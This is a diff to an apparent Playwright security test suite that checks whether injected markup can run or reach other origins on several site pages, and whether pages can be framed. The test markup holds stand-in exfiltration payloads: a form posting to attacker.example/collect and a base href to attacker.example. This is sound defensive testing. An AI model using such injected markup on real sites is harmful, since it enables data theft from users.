@@ -1,5 +1,5 @@
 import { expect, test } from "@playwright/test";
-import { gotoInjected, portalPaths, publicPaths } from "../../support/public-pages.ts";
+import { gotoInjected, portalPaths } from "../../support/public-pages.ts";
 import { portalRoutes } from "../../../src/shared/domain/routes.ts";
 
 declare global {
@@ -22,14 +22,10 @@ const markup = `
   <form action="https://attacker.example/collect"><button id="send">Send</button></form>
   <base href="https://attacker.example/">`;
 
-// One page of each policy: tests/site/headers.test.ts compares the policies of all pages.
-for (const path of [
-  "/",
-  "/boroughs/camden",
-  "/no-such-page",
-  portalRoutes.portal,
-  portalRoutes.forgotPassword,
-]) {
+/** One page of each policy: tests/site/headers.test.ts compares the policies of all pages. */
+const paths = ["/", "/boroughs/camden", "/no-such-page", portalRoutes.portal, portalRoutes.forgotPassword];
+
+for (const path of paths) {
   test(`injected code in ${path} neither runs nor reaches another origin`, async ({ page, baseURL }) => {
     const reached: string[] = [];
     await page.route("https://attacker.example/**", (route) => {
@@ -69,7 +65,6 @@ test("an injected script runs where no policy forbids it (the control of these t
 });
 
 test("no page can be framed, neither by another site nor by this one", async ({ page, baseURL }) => {
-  const paths = [...publicPaths, ...portalPaths];
   const body = paths.map((path) => `<iframe name="${path}" src="${baseURL}${path}"></iframe>`).join("");
   for (const outer of ["http://framer.example/", `${baseURL}/frames`]) {
     await page.route(outer, (route) => route.fulfill({ contentType: "text/html", body }));
